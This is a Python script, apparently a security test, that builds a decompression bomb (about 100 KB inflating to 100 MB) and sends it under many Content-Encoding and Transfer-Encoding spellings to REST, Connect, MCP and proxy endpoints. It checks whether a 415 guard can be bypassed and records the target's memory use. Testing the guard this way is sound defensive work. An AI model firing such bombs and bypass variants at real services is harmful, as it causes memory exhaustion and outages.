#!/usr/bin/env python3
"""ce13a.py: Content-Encoding spellings around the guard's 415 for compressed bodies, each with a
gzip (or deflate/zlib/brotli-named) bomb of about 100 KB that inflates to 100 MB of JSON, with a
route token, on --http-listen (REST, Connect unary, Connect streaming, gRPC-Web), --mcp-listen and
the proxy's listener (DIR/env); prints each status, the answer's head and the target's RSS.
usage: ce13a.py DIR"""
import os, sys, gzip, zlib, http.client, io
d = sys.argv[1]
env = dict(l.strip().split('=', 1) for l in open(os.path.join(d, 'env')) if '=' in l)
tok = {l.split()[0]: l.split()[2] for l in open(os.path.join(d, 'tokens'))}
def rss(pid): return int([l for l in open(f'/proc/{pid}/status') if l.startswith('VmRSS')][0].split()[1]) // 1024
inner = b'{"query":"' + b'a ' * (50 << 20) + b'"}'
gz = gzip.compress(inner, 9); zl = zlib.compress(inner, 9); raw = zlib.compressobj(9, zlib.DEFLATED, -15); df = raw.compress(inner) + raw.flush()
print('bomb', len(gz), '->', len(inner), flush=True)
spell = [('gzip', gz), ('GZIP', gz), (' gzip', gz), ('gzip ', gz), ('x-gzip', gz), ('gzip, identity', gz), ('identity, gzip', gz),
         ('identity,gzip', gz), ('deflate', zl), ('deflate', df), ('br', gz), ('zstd', gz), ('compress', gz), ('identity', gz), ('', gz), ('Identity', gz)]
targets = [('http REST', env['HTTP'], '/classifier.v1.ClassifierService/Route', 'application/json', {}, 'carol', env['PID']),
           ('http Connect', env['HTTP'], '/classifier.v1.ClassifierService/Route', 'application/json', {'Connect-Protocol-Version': '1'}, 'carol', env['PID']),
           ('mcp', env['MCP'], '/mcp', 'application/json', {'Accept': 'application/json, text/event-stream'}, 'carol', env['PID'])]
if 'PROXY' in env:
    targets.append(('proxy', env['PROXY'], '/mcp', 'application/json', {'Accept': 'application/json, text/event-stream'}, 'caller', env['PROXY_PID']))
for name, addr, path, ct, extra, who, pid in targets:
    h, p = addr.split(':')
    for hdr in ['Content-Encoding', 'Connect-Content-Encoding', 'Grpc-Encoding', 'Transfer-Encoding-gzip']:
        for enc, body in spell:
            hd = {'Content-Type': ct, 'Authorization': 'Bearer ' + tok[who]}; hd.update(extra)
            if hdr == 'Transfer-Encoding-gzip':
                if enc not in ('gzip', 'deflate'): continue
                c = http.client.HTTPConnection(h, int(p), timeout=60)
                c.putrequest('POST', path); [c.putheader(k, v) for k, v in hd.items()]
                c.putheader('Transfer-Encoding', enc + ', chunked'); c.endheaders()
                c.send(b'%x\r\n%s\r\n0\r\n\r\n' % (len(body), body))
            else:
                hd[hdr] = enc
                c = http.client.HTTPConnection(h, int(p), timeout=60)
                try: c.request('POST', path, body, hd)
                except Exception as e: print('%-12s %-24s %-16r send %r' % (name, hdr, enc, e)); continue
            try:
                r = c.getresponse(); b = r.read(); st = r.status
            except Exception as e:
                st, b = 'ERR', repr(e).encode()
            if st not in (415,) or os.environ.get('ALL'):
                print('%-12s %-24s %-16r %s %r RSS %d' % (name, hdr, enc, st, b[:100], rss(pid)), flush=True)
    print(name, 'done, RSS', rss(pid), flush=True)
